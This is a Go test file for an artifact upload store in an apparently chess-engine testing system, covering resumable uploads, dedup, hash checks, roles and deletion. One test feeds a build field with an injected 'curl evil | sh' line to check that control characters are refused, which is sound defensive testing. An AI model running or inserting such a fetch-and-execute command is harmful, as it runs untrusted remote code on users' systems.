package artifacts

import (
	"context"
	"crypto/sha256"
	"encoding/hex"
	"io"
	"os"
	"runtime"
	"strings"
	"testing"

	"github.com/prometheus/client_golang/prometheus"
	"github.com/prometheus/client_golang/prometheus/testutil"

	"github.com/arbiter-chess/arbiter/base/apierr"
	"github.com/arbiter-chess/arbiter/base/identity"
	"github.com/arbiter-chess/arbiter/coordinator/store"
	arbiterv1 "github.com/arbiter-chess/arbiter/proto/arbiter/v1"
)

var (
	alice  = identity.Identity{Name: "alice", Role: identity.Client}
	bob    = identity.Identity{Name: "bob", Role: identity.Client}
	worker = identity.Identity{Name: "w", Role: identity.Worker}
)

type fixture struct {
	st    *store.Store
	arts  *Store
	dir   string
	reg   *prometheus.Registry
	inUse map[string][]string
}

func newFixture(t *testing.T, dir string) *fixture {
	t.Helper()
	return newFixtureGit(t, dir, GitConfig{Allow: []string{"127.0.0.1"}})
}

// newFixtureGit is newFixture with git fetches configured as git says
// (newFixture's reach the loopback servers tests start).
func newFixtureGit(t *testing.T, dir string, git GitConfig) *fixture {
	t.Helper()
	if dir == "" {
		dir = t.TempDir()
	}
	st, err := store.Open(dir)
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { st.Close() })
	f := &fixture{st: st, dir: dir, reg: prometheus.NewRegistry(), inUse: map[string][]string{}}
	f.arts, err = New(context.Background(), Config{Store: st, Dir: dir + "/artifacts", MaxBytes: 1 << 20, Registerer: f.reg,
		InUse: func(sha string) []string { return f.inUse[sha] }, Git: git})
	if err != nil {
		t.Fatal(err)
	}
	return f
}

func hashOf(b []byte) string {
	h := sha256.Sum256(b)
	return hex.EncodeToString(h[:])
}

// chunks feeds Upload the data from offset in pieces of n bytes, stopping
// after stop bytes (-1: all).
func chunks(sha string, data []byte, offset, n, stop int) func() (string, int64, []byte, error) {
	at := offset
	return func() (string, int64, []byte, error) {
		end := min(at+n, len(data))
		if stop >= 0 {
			end = min(end, stop)
		}
		if at >= end {
			return "", 0, nil, io.EOF
		}
		c := data[at:end]
		off := at
		at = end
		return sha, int64(off), c, nil
	}
}

func begin(sha string, size int) *arbiterv1.BeginUploadRequest {
	return &arbiterv1.BeginUploadRequest{Sha256: sha, Size: uint64(size), Kind: arbiterv1.ArtifactKind_ARTIFACT_KIND_BINARY, Name: "dev", Bench: 42}
}

func TestUploadResumesDedupsAndSurvivesRestart(t *testing.T) {
	ctx := context.Background()
	dir := t.TempDir()
	f := newFixture(t, dir)
	data := []byte("#!/bin/sh\necho engine\n" + string(make([]byte, 5000)))
	sha := hashOf(data)
	if _, off, err := f.arts.BeginUpload(alice, begin(sha, len(data))); err != nil || off != 0 {
		t.Fatalf("begin: %d %v", off, err)
	}
	// The stream breaks after 3000 bytes: the coordinator keeps them.
	a, have, err := f.arts.Upload(ctx, alice, chunks(sha, data, 0, 1000, 3000))
	if err != nil || a != nil || have != 3000 {
		t.Fatalf("broken upload: %v %d %v", a, have, err)
	}
	if _, err := f.arts.Resolve(sha); apierr.ReasonOf(err) != apierr.ReasonUnknownArtifact {
		t.Fatalf("a partial upload is served: %v", err)
	}
	_, off, err := f.arts.BeginUpload(alice, begin(sha, len(data)))
	if err != nil || off != 3000 {
		t.Fatalf("resume offset %d %v, want 3000", off, err)
	}
	a, _, err = f.arts.Upload(ctx, alice, chunks(sha, data, int(off), 1000, -1))
	if err != nil || a == nil || a.SHA256 != sha || a.Uploader != "alice" || a.Bench != 42 {
		t.Fatalf("resumed upload: %+v %v", a, err)
	}
	// The same bytes again, from someone else: nothing to send.
	again, _, err := f.arts.BeginUpload(bob, begin(sha, len(data)))
	if err != nil || again == nil || again.Uploader != "alice" {
		t.Fatalf("dedup: %+v %v", again, err)
	}
	if got := testutil.ToFloat64(f.arts.bytesStored); got != float64(len(data)) {
		t.Fatalf("bytes stored %v", got)
	}
	if got := testutil.ToFloat64(f.arts.uploads.WithLabelValues("duplicate")); got != 1 {
		t.Fatalf("duplicates %v", got)
	}
	// Downloads: a worker reads the bytes back.
	r, _, err := f.arts.Open(worker, sha, 10)
	if err != nil {
		t.Fatal(err)
	}
	rest, _ := io.ReadAll(r)
	r.Close()
	if string(rest) != string(data[10:]) {
		t.Fatal("download differs")
	}
	if _, _, err := f.arts.Open(alice, sha, 0); apierr.ReasonOf(err) != apierr.ReasonWrongRole {
		t.Fatalf("a client downloads: %v", err)
	}
	// A restart finds it again.
	f.st.Close()
	f2 := newFixture(t, dir)
	if a, err := f2.arts.Resolve(sha[:10]); err != nil || a.Size != int64(len(data)) {
		t.Fatalf("after restart: %+v %v", a, err)
	}
}

func TestBadUploadsAreRefusedAndNothingStored(t *testing.T) {
	ctx := context.Background()
	f := newFixture(t, "")
	data := []byte("some engine bytes")
	sha := hashOf(data)
	wrong := hashOf([]byte("other"))
	// Announced with another hash: the bytes are discarded at the end.
	if _, _, err := f.arts.BeginUpload(alice, begin(wrong, len(data))); err != nil {
		t.Fatal(err)
	}
	if _, _, err := f.arts.Upload(ctx, alice, chunks(wrong, data, 0, 4, -1)); apierr.ReasonOf(err) != apierr.ReasonHashMismatch {
		t.Fatalf("hash mismatch: %v", err)
	}
	if _, off, _ := f.arts.BeginUpload(alice, begin(wrong, len(data))); off != 0 {
		t.Fatalf("mismatched bytes kept: offset %d", off)
	}
	// More bytes than announced.
	if _, _, err := f.arts.BeginUpload(alice, begin(sha, len(data)-1)); err != nil {
		t.Fatal(err)
	}
	if _, _, err := f.arts.Upload(ctx, alice, chunks(sha, data, 0, 100, -1)); apierr.ReasonOf(err) != apierr.ReasonTooLarge {
		t.Fatalf("overlong: %v", err)
	}
	// Over the cap, a bad hash, a worker uploading, a chunk out of place.
	if _, _, err := f.arts.BeginUpload(alice, begin(sha, 2<<20)); apierr.ReasonOf(err) != apierr.ReasonTooLarge {
		t.Fatalf("over the cap: %v", err)
	}
	if _, _, err := f.arts.BeginUpload(alice, begin("abc", 3)); apierr.ReasonOf(err) != apierr.ReasonBadInput {
		t.Fatalf("bad hash: %v", err)
	}
	if _, _, err := f.arts.BeginUpload(worker, begin(sha, len(data))); apierr.ReasonOf(err) != apierr.ReasonWrongRole {
		t.Fatalf("worker uploads: %v", err)
	}
	f.arts.BeginUpload(alice, begin(sha, len(data)))
	if _, _, err := f.arts.Upload(ctx, alice, chunks(sha, data, 5, 4, -1)); apierr.ReasonOf(err) != apierr.ReasonBadInput {
		t.Fatalf("chunk out of place: %v", err)
	}
	if list, total := f.arts.List(0, 0); len(list) != 0 || total != 0 {
		t.Fatalf("stored after refusals: %v %d", list, total)
	}
	if got := testutil.ToFloat64(f.arts.uploads.WithLabelValues("hash_mismatch")); got != 1 {
		t.Fatalf("hash mismatches counted %v", got)
	}
}

func TestRemoveRefusedWhileInUse(t *testing.T) {
	ctx := context.Background()
	f := newFixture(t, "")
	data := []byte("engine")
	sha := hashOf(data)
	f.arts.BeginUpload(alice, begin(sha, len(data)))
	if a, _, err := f.arts.Upload(ctx, alice, chunks(sha, data, 0, 100, -1)); err != nil || a == nil {
		t.Fatal(err)
	}
	f.inUse[sha] = []string{"s123"}
	if err := f.arts.Delete(ctx, alice, sha[:8]); apierr.ReasonOf(err) != apierr.ReasonInUse {
		t.Fatalf("delete in use: %v", err)
	}
	delete(f.inUse, sha)
	if err := f.arts.Delete(ctx, bob, sha); apierr.ReasonOf(err) != apierr.ReasonWrongRole {
		t.Fatalf("someone else's: %v", err)
	}
	if err := f.arts.Delete(ctx, alice, sha); err != nil {
		t.Fatal(err)
	}
	if _, err := os.Stat(f.arts.object(sha)); !os.IsNotExist(err) {
		t.Fatalf("file left: %v", err)
	}
	if list, _ := f.arts.List(0, 0); len(list) != 0 {
		t.Fatal("still listed")
	}
}

func TestPlatformOfThisTestBinary(t *testing.T) {
	self, _ := os.Executable()
	fh, err := os.Open(self)
	if err != nil {
		t.Fatal(err)
	}
	defer fh.Close()
	if p, want := Platform(fh), runtime.GOOS+"/"+runtime.GOARCH; p != want && runtime.GOOS == "linux" {
		t.Fatalf("platform %q, want %q", p, want)
	}
}

func TestBeginUploadRefusesControlCharacters(t *testing.T) {
	s := newFixture(t, "").arts
	for _, req := range []*arbiterv1.BeginUploadRequest{
		{Build: "make\ncurl evil | sh"},
		{Name: "dev\x1b[2J"},
		{Exe: "engine\t"},
	} {
		req.Sha256, req.Size, req.Kind = strings.Repeat("a", 64), 10, arbiterv1.ArtifactKind_ARTIFACT_KIND_SOURCE
		_, _, err := s.BeginUpload(alice, req)
		if e, ok := apierr.As(err); !ok || e.Code != apierr.InvalidArgument || !strings.Contains(e.Msg, "control characters") {
			t.Errorf("%v: %v, want refused for a control character", req, err)
		}
	}
	req := &arbiterv1.BeginUploadRequest{Sha256: strings.Repeat("a", 64), Size: 10, Kind: arbiterv1.ArtifactKind_ARTIFACT_KIND_SOURCE,
		Build: "make", Message: "fix\n\nlonger explanation"}
	if _, _, err := s.BeginUpload(alice, req); err != nil {
		t.Fatalf("a commit message with line breaks: %v", err)
	}
}
